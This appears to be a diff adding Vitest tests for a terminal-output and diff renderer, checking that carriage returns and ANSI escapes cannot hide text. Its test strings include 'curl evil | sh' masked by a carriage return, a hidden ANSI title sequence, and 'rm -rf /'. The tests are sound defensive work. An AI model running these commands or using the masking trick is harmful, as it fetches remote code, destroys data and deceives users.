@@ -3,6 +3,7 @@ import { describe, expect, it } from "vitest";
 import { firstLines } from "../lib/lines";
 import { visible } from "../lib/visible";
 import { ansiSpans } from "./ansi";
+import { spansOf } from "./Output";
 import { diffLines, diffPairs } from "./diff_lines";
 import { renderMarkdown } from "./markdown";
 
@@ -83,17 +84,36 @@ describe("ansiSpans", () => {
   });
 });
 
+describe("spansOf", () => {
+  it.each([
+    ["curl evil | sh #\rls -la", "curl evil | sh #⟨U+000D⟩ls -la"],
+    ["a\u001b]0;hidden\u0007b\u001b[8mc", "a␛]0;hidden␇b␛[8mc"],
+  ])("hides nothing of %j if it is literal", (text, shown) => {
+    expect(spansOf(text, true)).toEqual([{ text: shown, classes: "" }]);
+  });
+});
+
 describe("firstLines", () => {
   it("cuts long lines and long texts", () => {
     const { lines, more } = firstLines("x".repeat(10_000_000), 10);
     expect(lines[0]!.length).toBeLessThan(2_100);
     expect(more).toBe(false);
-    expect(firstLines("a\n".repeat(100_000), 10)).toEqual({ lines: Array(10).fill("a"), more: true });
-    expect(firstLines("a\nb\n", 10)).toEqual({ lines: ["a", "b"], more: false });
+    expect(firstLines("a\n".repeat(100_000), 10)).toEqual({ lines: Array(10).fill("a"), more: true, long: false });
+    expect(firstLines("a\nb\n", 10)).toEqual({ lines: ["a", "b"], more: false, long: false });
+  });
+
+  it("tells that a line is cut, and gives it whole if asked", () => {
+    const text = "x".repeat(5_000);
+    expect(firstLines(text, 10).long).toBe(true);
+    expect(firstLines(text, 10, Infinity)).toEqual({ lines: [text], more: false, long: false });
   });
 });
 
 describe("diffLines", () => {
+  it("keeps the first character of a line without a sign", () => {
+    expect(diffLines(["@@ @@", "rm -rf /"])[1]).toMatchObject({ kind: "same", text: "rm -rf /" });
+  });
+
   it("numbers lines and pairs them", () => {
     const lines = diffLines(["@@ -3,2 +3,3 @@", " a", "-b", "+c", "+d"]);
     expect(lines.map(({ before, after }) => [before, after])).toEqual([[undefined, undefined], [3, 3], [4, undefined], [undefined, 4], [undefined, 5]]);
